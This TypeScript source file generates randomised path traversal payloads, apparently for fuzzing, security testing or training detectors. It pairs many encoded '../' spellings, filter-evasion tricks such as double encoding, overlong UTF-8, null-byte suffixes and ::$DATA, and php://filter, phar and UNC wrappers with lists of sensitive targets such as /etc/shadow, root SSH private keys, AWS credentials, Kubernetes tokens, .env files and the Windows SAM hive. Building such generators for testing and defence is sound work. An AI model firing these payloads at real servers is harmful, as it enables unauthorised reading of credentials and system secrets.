import type { Rng } from './rng.js';

/** Path traversal grammar: a climb (`../` in many spellings and depths) to a sensitive Unix or Windows file, or an absolute/wrapper path to one. */

const UNIX_TARGETS = ['etc/passwd', 'etc/shadow', 'etc/hosts', 'etc/group', 'etc/issue', 'etc/hostname', 'etc/resolv.conf', 'etc/crontab', 'etc/sudoers',
  'proc/self/environ', 'proc/self/cmdline', 'proc/version', 'proc/self/status', 'proc/self/fd/0', 'proc/1/maps', 'proc/net/tcp', 'var/log/apache2/access.log',
  'var/log/nginx/error.log', 'var/log/auth.log', 'root/.ssh/id_rsa', 'root/.bash_history', 'home/ubuntu/.ssh/authorized_keys', 'var/www/html/.env', '.env',
  'var/www/html/wp-config.php', 'config/database.yml', 'app/config/parameters.yml', 'usr/local/etc/nginx/nginx.conf', 'etc/nginx/nginx.conf', 'etc/apache2/apache2.conf',
  'etc/mysql/my.cnf', '.git/config', '.git/HEAD', '.htpasswd', '.htaccess', 'WEB-INF/web.xml', 'META-INF/MANIFEST.MF', 'var/run/secrets/kubernetes.io/serviceaccount/token',
  'etc/ssh/sshd_config', 'opt/app/config.json', 'srv/app/settings.py', 'usr/share/tomcat/conf/tomcat-users.xml', 'var/lib/mysql/mysql/user.MYD', 'etc/php/8.1/apache2/php.ini',
  'home/app/.aws/credentials', 'root/.docker/config.json', 'package.json', 'etc/os-release', 'dev/null', 'bin/sh', 'etc/profile', 'usr/local/lib/node_modules'];
const WIN_TARGETS = ['windows/win.ini', 'windows/system.ini', 'boot.ini', 'windows/system32/drivers/etc/hosts', 'windows/system32/config/sam', 'windows/repair/sam',
  'windows/panther/unattend.xml', 'inetpub/wwwroot/web.config', 'inetpub/logs/logfiles', 'windows/system32/inetsrv/config/applicationhost.config', 'xampp/apache/conf/httpd.conf',
  'program files/mysql/my.ini', 'windows/debug/netsetup.log', 'users/administrator/ntuser.dat', 'windows/system32/license.rtf', 'autoexec.bat', 'windows/iis.log', 'php/php.ini'];

/** One `../`, in one of the spellings a decoder, normaliser or filter may let through. */
function up(rng: Rng, windows: boolean): string {
  return rng.weighted<string>([
    [windows ? 6 : 30, () => '../'],
    [windows ? 20 : 3, () => '..\\'],
    [6, () => '..%2f'], [5, () => '%2e%2e%2f'], [4, () => '%2e%2e/'], [3, () => '..%5c'], [3, () => '%2e%2e%5c'], [3, () => '%252e%252e%252f'],
    [2, () => '..%252f'], [2, () => '..%255c'], [3, () => '..%c0%af'], [2, () => '%c0%ae%c0%ae/'], [2, () => '..%c1%9c'], [1, () => '%e0%80%ae%e0%80%ae/'],
    [3, () => '....//'], [2, () => '..././'], [2, () => '....\\\\'], [1, () => '.../'], [1, () => '..;/'], [1, () => '%2e%2e%2f'.toUpperCase()],
    [1, () => '..%u2215'], [1, () => '%uff0e%uff0e/'], [1, () => '..//'], [1, () => '..\\/'], [1, () => './../'], [1, () => '..%00/'], [1, () => '.%2e/'],
    [1, () => '%2e./'], [1, () => '..%c0%2f'], [1, () => '..0x2f'], [1, () => '%%32%65%%32%65/'], [1, () => '..\u2216'],
  ]);
}

function climb(rng: Rng, windows: boolean): string {
  const depth = rng.weighted<number>([[2, () => rng.int(1, 2)], [6, () => rng.int(3, 8)], [2, () => rng.int(9, 16)]]);
  const same = rng.chance(0.8);
  const first = up(rng, windows);
  let s = '';
  for (let i = 0; i < depth; i++) s += same ? first : up(rng, windows);
  return s;
}

function target(rng: Rng, windows: boolean): string {
  let t = windows ? rng.pick(WIN_TARGETS) : rng.pick(UNIX_TARGETS);
  if (windows && rng.chance(0.6)) t = t.replace(/\//g, '\\');
  if (rng.chance(0.15)) t = t.replace(/\//g, rng.pick(['%2f', '%252f', '//', '/./']));
  if (rng.chance(0.1)) t = t.toUpperCase();
  return t;
}

function suffix(rng: Rng): string {
  return rng.weighted<string>([[12, () => ''], [2, () => '%00'], [2, () => `%00.${rng.pick(['jpg', 'png', 'html', 'pdf', 'txt', 'php'])}`], [1, () => '\u0000.jpg'],
    [1, () => '?'], [1, () => '#'], [1, () => ';.png'], [1, () => '%2500'], [1, () => '.'], [1, () => '%20'], [1, () => '::$DATA']]);
}

function prefix(rng: Rng): string {
  return rng.weighted<string>([[14, () => ''], [2, () => rng.pick(['images/', 'static/', 'uploads/', 'files/', 'assets/img/', 'templates/', 'docs/', 'lang/'])],
    [1, () => rng.pick(['/var/www/images/', '/usr/share/app/public/', 'C:\\inetpub\\wwwroot\\files\\', '/srv/files/'])], [1, () => '/'], [1, () => rng.pick(['en/', 'download?file=', 'page='])],
    [1, () => '.../'], [1, () => `${rng.pick(['report', 'photo', 'invoice'])}.pdf/`]]);
}

function absolute(rng: Rng): string {
  return rng.weighted<string>([
    [4, () => `/${target(rng, false)}`], [3, () => `${rng.pick(['C:', 'c:', 'D:'])}\\${target(rng, true).replace(/\//g, '\\')}`], [1, () => `C:/${target(rng, true)}`],
    [2, () => `file://${rng.pick(['', 'localhost'])}/${target(rng, false)}`], [1, () => `file:///${rng.pick(['c:', 'C:'])}/${target(rng, true)}`],
    [1, () => `\\\\${rng.pick(['localhost', '127.0.0.1', '?', '.'])}\\${rng.pick(['c$', 'C:', 'admin$'])}\\${target(rng, true).replace(/\//g, '\\')}`],
    [2, () => `php://filter/${rng.pick(['convert.base64-encode', 'read=string.rot13', 'convert.iconv.utf-8.utf-16'])}/resource=${rng.pick(['index.php', 'config.php', '/etc/passwd', '../config.php'])}`],
    [1, () => `${rng.pick(['zip', 'phar', 'jar:file'])}://${rng.pick(['uploads/a.zip#shell.php', '/tmp/x.phar/test.txt', '/var/www/app.war!/WEB-INF/web.xml'])}`],
    [1, () => `/proc/self/root/${target(rng, false)}`], [1, () => `//${target(rng, false)}`], [1, () => `/${target(rng, false)}`.replace(/\//g, '%2f')],
  ]);
}

export function traversalPayload(rng: Rng): string {
  const windows = rng.chance(0.3);
  return rng.weighted<string>([
    [78, () => `${prefix(rng)}${climb(rng, windows)}${target(rng, windows)}${suffix(rng)}`],
    [22, () => `${absolute(rng)}${suffix(rng)}`],
  ]);
}
